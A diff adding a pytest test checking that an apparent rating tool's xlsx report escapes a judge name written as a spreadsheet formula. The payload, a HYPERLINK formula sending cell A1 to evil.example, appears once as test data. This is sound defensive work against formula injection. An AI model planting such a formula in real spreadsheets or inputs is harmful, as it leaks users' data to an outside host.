@@ -138,3 +138,27 @@ def test_the_html_report_groups_reasons_by_score_band(study):
     html = report(study, "html").read_text()
     assert "Scores ≥ 9: 4 ratings (50.0 %)" in html
     assert "Scores ≤ 6: 1 rating (12.5 %)" in html
+
+
+JUDGE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+@pytest.mark.parametrize(
+    ("rubric", "item", "scores"),
+    [
+        ("legalworld16", "LC.procedural_compliance", (8, 7)),
+        ("simcourt30", "debate.attorney.clarity_of_defense_arguments", (-1, 1)),
+    ],
+)
+def test_a_judge_named_like_a_formula_is_text_in_the_xlsx_report(tmp_path, rubric, item, scores):
+    from annotation.models import Rating
+
+    for trajectory in ("t1|t2", "t3|t4"):
+        for rater, source, score in (("ann", "human", scores[0]), (JUDGE_FORMULA, "llm", scores[1])):
+            Rating.objects.create(
+                rubric_id=rubric, trajectory_id=trajectory, item=item, rater=rater, source=source, score=score
+            )
+    workbook = load_workbook(report(tmp_path, "xlsx", "--rubric", rubric))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
+    assert ["judge", "'" + JUDGE_FORMULA] in [[cell.value for cell in row] for row in workbook["notes"].iter_rows()]
